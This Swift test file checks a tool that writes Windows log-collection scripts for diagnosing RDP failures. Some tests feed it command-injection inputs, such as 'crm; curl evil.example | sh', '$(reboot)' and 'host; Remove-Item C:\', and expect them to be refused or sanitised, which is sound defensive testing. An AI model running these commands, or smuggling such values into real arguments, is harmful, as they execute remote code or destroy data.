import Diagnosis
import EventImport
import Foundation
import GoldenFiles
import LogCollection
import SigmaKit
import Testing

/// The golden files' folder.
let goldenDirectory = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("Golden")

/// The built-in rule pack (the scripts collect what it reads).
let builtInPack = RulePack.load(RuleSources(includesBuiltIn: true, folders: []))

/// `collect-script`: the plan (which channels, how far around the failure), the two scripts, and
/// every `wevtutil` command line in them against the documented syntax.
struct CollectScriptTests {
    static let failure = EventTimestamp(year: 2026, month: 3, day: 24, hour: 21, minute: 12, second: 40)

    func script(time: EventTimestamp? = failure, ticket: String? = "RT-1234") throws -> CollectScript {
        let request = try CollectionRequest(host: "DESIGN-PC-03.corp.example", client: "LT-HOME-22", time: time, ticket: ticket)
        return CollectScript(plan: try CollectionPlan(pack: builtInPack), request: request, generator: "rdpcause (test), rules (test)")
    }

    /// The `wevtutil` argument lists of a script: the commands it runs and the `.evtx` notes.
    func wevtutilCommands(_ text: String, shell: CollectScript.Shell) -> [[String]] {
        var commands: [[String]] = []
        for line in text.components(separatedBy: "\r\n") {
            let trimmed = line.trimmingCharacters(in: .whitespaces)
            switch shell {
            case .powerShell where trimmed.hasPrefix("Export-EventLog '"):
                // Export-EventLog 'channel' 'file' 'arguments' (PowerShell single-quoted, '' is a quote)
                let quoted = trimmed.split(separator: "'", omittingEmptySubsequences: false)
                let arguments = trimmed.dropFirst("Export-EventLog ".count)
                let fields = Self.singleQuoted(String(arguments))
                #expect(fields.count == 3, "\(line) (\(quoted.count))")
                commands.append(WindowsCommandLine.split(fields.last ?? ""))
            case _ where trimmed.hasPrefix("# .evtx: wevtutil.exe ") || trimmed.hasPrefix("rem .evtx: wevtutil.exe "):
                let rest = trimmed.components(separatedBy: "wevtutil.exe ").dropFirst().joined(separator: "wevtutil.exe ")
                commands.append(WindowsCommandLine.split(rest))
            case .cmd where trimmed.hasPrefix("wevtutil.exe "):
                commands.append(WindowsCommandLine.split(String(trimmed.dropFirst("wevtutil.exe ".count))))
            default:
                continue
            }
        }
        return commands
    }

    /// The single-quoted PowerShell strings of a line, unescaped.
    static func singleQuoted(_ text: String) -> [String] {
        var strings: [String] = []
        var characters = Array(text)[...]
        while let start = characters.firstIndex(of: "'") {
            characters = characters[(start + 1)...]
            var value = ""
            while let character = characters.popFirst() {
                if character == "'" {
                    if characters.first == "'" {
                        value.append("'")
                        characters = characters.dropFirst()
                        continue
                    }
                    break
                }
                value.append(character)
            }
            strings.append(value)
        }
        return strings
    }

    @Test func thePlanCollectsExactlyTheChannelsThePackReads() throws {
        let plan = try CollectionPlan(pack: builtInPack)
        var read: [CauseDefinition.Machine: Set<String>] = [.client: [CollectionPlan.clientLog]]
        let channels = builtInPack.ruleChannels
        for cause in builtInPack.causes {
            for need in cause.needs { read[need.machine, default: []].insert(need.channel) }
            for item in cause.evidence + cause.against {
                for rule in item.ruleNames { read[item.machine, default: []].formUnion(channels[rule] ?? []) }
            }
        }
        #expect(Set(plan.client.map(\.channel)) == read[.client])
        #expect(Set(plan.host.map(\.channel)) == read[.host])
        #expect(Set(plan.gateway.map(\.channel)) == read[.gateway])
        #expect(plan.gateway.map(\.channel) == ["Microsoft-Windows-TerminalServices-Gateway/Operational"])
        #expect(plan.host.map(\.channel).contains("System") && plan.host.map(\.channel).contains("Security"))
        let rdpClient = try #require(plan.client.first { $0.channel == CollectionPlan.clientLog })
        #expect(rdpClient.causes.contains("failure"))
        for log in plan.client + plan.host + plan.gateway {
            #expect(log.secondsBefore >= CollectionPlan.minimumReach && log.secondsAfter >= CollectionPlan.minimumReach)
            #expect(!log.causes.isEmpty)
        }
        // The certificate causes look 90 days back in the System log.
        let system = try #require(plan.host.first { $0.channel == "System" })
        #expect(system.secondsBefore == Int64(90 * 86_400))
        #expect(system.secondsAfter == Int64(2 * 86_400))
    }

    @Test func everyWevtutilCommandFollowsTheDocumentedSyntax() throws {
        for time in [Self.failure, nil] {
            let script = try script(time: time)
            let plan = script.plan
            for shell in [CollectScript.Shell.powerShell, .cmd] {
                let commands = wevtutilCommands(script.render(shell), shell: shell)
                let logs = plan.client.count + plan.host.count + plan.gateway.count + Set((plan.client + plan.host).map(\.channel)).count
                #expect(commands.count == 2 * logs, "\(shell): one qe and one epl per log and role")
                for command in commands {
                    #expect(WevtutilSyntax.problems(command).isEmpty, "\(command): \(WevtutilSyntax.problems(command))")
                }
                #expect(commands.filter { $0.first == "qe" }.allSatisfy { $0.contains("/f:xml") && $0.contains("/e:Events") })
                #expect(commands.filter { $0.first == "epl" }.allSatisfy { $0.count == 5 && $0[2].hasSuffix(".evtx") })
            }
        }
    }

    @Test func theSyntaxCheckRejectsWhatTheDocumentationDoesNotAllow() {
        let good = ["qe", "System", "/q:*[System[TimeCreated[timediff(@SystemTime) <= 1000]]]", "/f:xml", "/e:Events", "/uni:true"]
        #expect(WevtutilSyntax.problems(good).isEmpty)
        #expect(!WevtutilSyntax.problems(["qe", "/f:xml"]).isEmpty, "no path")
        #expect(!WevtutilSyntax.problems(good + ["/f:json"]).isEmpty, "twice, and not a format")
        #expect(!WevtutilSyntax.problems(["qe", "System", "/f:json"]).isEmpty)
        #expect(!WevtutilSyntax.problems(["qe", "System", "/ow:true"]).isEmpty, "/ow is epl's")
        #expect(!WevtutilSyntax.problems(["qe", "System", "/uni:yes"]).isEmpty)
        #expect(!WevtutilSyntax.problems(["qe", "System", "/q:*[System[TimeCreated[@SystemTime>='2026-03-24T22:00:00.000Z' and @SystemTime<='2026-03-24T21:00:00.000Z']]]"]).isEmpty)
        #expect(!WevtutilSyntax.problems(["qe", "System", "/q:*[System[EventID=1]"]).isEmpty)
        #expect(!WevtutilSyntax.problems(["epl", "System", "/q:x"]).isEmpty, "epl needs an export file")
        #expect(!WevtutilSyntax.problems(["query", "System"]).isEmpty)
        #expect(WindowsCommandLine.split(#"qe "A B" "/q:x='1' and y<='2'" /f:xml > "C:\o u t.xml""#) == ["qe", "A B", "/q:x='1' and y<='2'", "/f:xml"])
    }

    @Test func theWindowIsFixedAroundTheFailureOrReachesBackFromNow() throws {
        let timed = try script().render(.cmd)
        // System on the host: 90 days before (certificate causes) to two days after (a wake report
        // whose sleep interval holds the failure); on the client, 90 days before (the Windows update
        // a client update regression looks for) to a day after (an update after the failure is said).
        #expect(timed.contains(#"wevtutil.exe qe "System" "/q:*[System[TimeCreated[@SystemTime>='2025-12-24T21:12:40.000Z' and @SystemTime<='2026-03-26T21:12:40.000Z']]]" /f:xml /e:Events /uni:true > "%OUT%\System.xml""#))
        #expect(timed.contains(#"wevtutil.exe qe "System" "/q:*[System[TimeCreated[@SystemTime>='2025-12-24T21:12:40.000Z' and @SystemTime<='2026-03-25T21:12:40.000Z']]]" /f:xml /e:Events /uni:true > "%OUT%\System.xml""#))
        // The client's own log reaches 14 days further back: its failures before such an update.
        #expect(timed.contains(#"wevtutil.exe qe "Microsoft-Windows-TerminalServices-RDPClient/Operational" "/q:*[System[TimeCreated[@SystemTime>='2025-12-10T21:12:40.000Z' and @SystemTime<='2026-03-24T22:12:40.000Z']]]""#))
        let recent = try script(time: nil).render(.cmd)
        // Without a failure time, back from now: the client's log 104 days (90 + 14, the client update
        // regression) and a day for the failure's unknown time.
        #expect(recent.contains(#"wevtutil.exe qe "Microsoft-Windows-TerminalServices-RDPClient/Operational" "/q:*[System[TimeCreated[timediff(@SystemTime) <= 9072000000]]]""#))
        #expect(recent.contains("Failure time not given"))
    }

    @Test func theScriptsFindTheirRoleFromTheComputerName() throws {
        let text = try script().render(.powerShell)
        #expect(text.contains("    if ($env:COMPUTERNAME -ieq 'LT-HOME-22') { $Role = 'client' }\r\n"))
        #expect(text.contains("    if ($env:COMPUTERNAME -ieq 'DESIGN-PC-03') { $Role = 'host' }\r\n"))
        let batch = try script().render(.cmd)
        #expect(batch.contains(#"if "%~1"=="" if /i "%COMPUTERNAME%"=="DESIGN-PC-03" set "ROLE=host""#))
        // An address is never a COMPUTERNAME: no test for it.
        let byAddress = CollectScript(
            plan: try CollectionPlan(pack: builtInPack), request: try CollectionRequest(host: "10.1.2.3"), generator: "test")
        #expect(!byAddress.render(.powerShell).contains("10.1.2.3') { $Role"))
        #expect(byAddress.render(.powerShell).contains("$Name = 'rdpcause-logs-' + $env:COMPUTERNAME"))
    }

    @Test func anRDGatewayCollectsItsOwnLogOnlyWhereItIsAskedFor() throws {
        let gatewayLog = "Microsoft-Windows-TerminalServices-Gateway/Operational"
        let request = try CollectionRequest(host: "DESIGN-PC-03", client: "LT-HOME-22", gateway: "rdg-01.corp.example", time: Self.failure)
        let script = CollectScript(plan: try CollectionPlan(pack: builtInPack), request: request, generator: "test")
        let text = script.render(.powerShell)
        #expect(text.contains("    if ($env:COMPUTERNAME -ieq 'RDG-01') { $Role = 'gateway' }\r\n"))
        #expect(text.contains("    [ValidateSet('auto', 'client', 'host', 'gateway', 'both')]\r\n"))
        #expect(text.contains("# Client: LT-HOME-22. Host: DESIGN-PC-03. RD Gateway: rdg-01.corp.example.\r\n"))
        // The gateway's block exports its log; the client's, the host's and `both` never do (the
        // channel exists only on a gateway, and a failed export would be counted).
        let blocks = text.components(separatedBy: "\r\nif ($Role -eq '").dropFirst()
        let gatewayBlock = try #require(blocks.first { $0.hasPrefix("gateway'") })
        #expect(gatewayBlock.contains("Export-EventLog '\(gatewayLog)'"))
        for block in blocks where !block.hasPrefix("gateway'") { #expect(!block.contains(gatewayLog), "\(block.prefix(12))") }
        let batch = script.render(.cmd)
        #expect(batch.contains(#"if "%~1"=="" if /i "%COMPUTERNAME%"=="RDG-01" set "ROLE=gateway""#))
        #expect(batch.contains(#"if /i "%ROLE%"=="gateway" goto gateway"#))
        #expect(batch.contains("rem   rdpcause-collect.cmd [client|host|gateway|both]\r\n"))
        let label = try #require(batch.range(of: "\r\n:gateway\r\n"))
        let section = try #require(batch[label.upperBound...].components(separatedBy: "goto zip").first)
        #expect(section.contains(#"wevtutil.exe qe "\#(gatewayLog)""#))
        // A gateway name a script could misread is refused like the others.
        #expect(throws: CollectionError.self) { try CollectionRequest(gateway: "rdg & calc") }
    }

    @Test func namesAScriptCouldMisreadAreRefused() {
        for hostile in ["host; Remove-Item C:\\", "a'b", "x&calc", "$(evil)", "h\"ost", "-rf", "", "host name", "ñame"] {
            #expect(throws: CollectionError.self) { try CollectionRequest(host: hostile) }
            #expect(throws: CollectionError.self) { try CollectionRequest(client: hostile) }
        }
        for hostile in ["RT-1; del", "'x'", "%TEMP%", "a b", "RT-1234&"] {
            #expect(throws: CollectionError.self) { try CollectionRequest(ticket: hostile) }
        }
        #expect((try? CollectionRequest(host: "rdsh-01.corp.example", client: "10.0.0.7", ticket: "#1234")) != nil)
    }

    @Test func aTimeMustSayItsZone() throws {
        #expect(try CollectionRequest.failureTime("2026-03-24T17:12:40-04:00", utcOffsetSeconds: nil) == Self.failure)
        #expect(try CollectionRequest.failureTime("2026-03-24T21:12:40Z", utcOffsetSeconds: nil) == Self.failure)
        #expect(try CollectionRequest.failureTime("2026-03-24T17:12:40", utcOffsetSeconds: -4 * 3600) == Self.failure)
        #expect(throws: CollectionError.self) { try CollectionRequest.failureTime("2026-03-24T17:12:40", utcOffsetSeconds: nil) }
        #expect(throws: CollectionError.self) { try CollectionRequest.failureTime("2026-03-24T17:12:40Z", utcOffsetSeconds: 3600) }
        #expect(throws: CollectionError.self) { try CollectionRequest.failureTime("yesterday Z", utcOffsetSeconds: nil) }
    }

    @Test func aChannelAScriptCannotCarryIsRefused() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("rdpcause-collect-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder.appendingPathComponent("causes"), withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let cause = """
            id: odd
            title: Odd
            needs:
              - machine: host
                channel: "System\\" & calc"
            evidence:
              - code: [2308]
                weight: 0.5
            remediation: [fix]
            """
        try Data(cause.utf8).write(to: folder.appendingPathComponent("causes/odd.yml"))
        let pack = RulePack.load(RuleSources(includesBuiltIn: true, folders: [RuleSources.Folder(path: folder.path, origin: .commandLine)]))
        #expect(pack.causes.contains { $0.id == "odd" })
        #expect(throws: CollectionError.self) { try CollectionPlan(pack: pack) }
    }

    @Test func causeIdsFromRuleFilesReachCommentsOnlyAsSafeText() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("rdpcause-collect-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder.appendingPathComponent("causes"), withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let cause = """
            id: "odd\\r\\nRemove-Item C:\\\\ %TEMP%"
            title: Odd
            needs:
              - machine: host
                channel: System
            evidence:
              - code: [2308]
                weight: 0.5
            remediation: [fix]
            """
        try Data(cause.utf8).write(to: folder.appendingPathComponent("causes/odd.yml"))
        let pack = RulePack.load(RuleSources(includesBuiltIn: true, folders: [RuleSources.Folder(path: folder.path, origin: .commandLine)]))
        #expect(pack.causes.contains { $0.id.hasPrefix("odd\r\n") })
        let script = CollectScript(plan: try CollectionPlan(pack: pack), request: try CollectionRequest(), generator: "test")
        for shell in [CollectScript.Shell.powerShell, .cmd] {
            let lines = script.render(shell).components(separatedBy: "\r\n")
            #expect(!lines.contains { $0.hasPrefix("Remove-Item C:") })
            #expect(lines.contains { $0.hasSuffix("odd__Remove-Item_C____TEMP_") || $0.contains("odd__Remove-Item_C____TEMP_,") })
        }
    }

    @Test(arguments: [("collect.ps1", CollectScript.Shell.powerShell, true), ("collect.cmd", .cmd, true), ("collect-recent.ps1", .powerShell, false)])
    func theScriptsMatchTheirGoldenFiles(_ name: String, _ shell: CollectScript.Shell, _ timed: Bool) throws {
        let text = try script(time: timed ? Self.failure : nil, ticket: timed ? "RT-1234" : nil).render(shell)
        Golden.expect(text, named: name, in: goldenDirectory, suite: "LogCollectionTests")
    }
}

/// The line the findings print under "Logs to collect".
struct CollectScriptHintTests {
    static let inconclusive = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .deletingLastPathComponent().appendingPathComponent("SampleLogs/inconclusive").path

    @Test func theHintNamesTheFailureAndLeavesOutNamesAShellCouldMisread() throws {
        var diagnosis = CaseRunner(pack: builtInPack).analyze(Self.inconclusive).diagnosis
        #expect(!diagnosis.missingLogs.isEmpty)
        let failure = try #require(diagnosis.failures.first)
        #expect(
            CollectScriptHint.command(for: diagnosis)
                == "rdpcause collect-script --host \(failure.host ?? "") --client \(failure.client ?? "") --time \(failure.time.iso8601(fractionDigits: 0))")
        diagnosis.failures[0].host = "crm; curl evil.example | sh"
        diagnosis.failures[0].client = "$(reboot)"
        #expect(CollectScriptHint.command(for: diagnosis) == "rdpcause collect-script --time \(failure.time.iso8601(fractionDigits: 0))")
        // What the hint gives, the command accepts.
        #expect(throws: Never.self) { try CollectionRequest.failureTime(failure.time.iso8601(fractionDigits: 0), utcOffsetSeconds: nil) }
        // No gateway log is asked for: the script runs on the client and on the host.
        #expect(CollectScriptHint.lead(for: diagnosis).contains("on the client and on the host ("))
    }
}
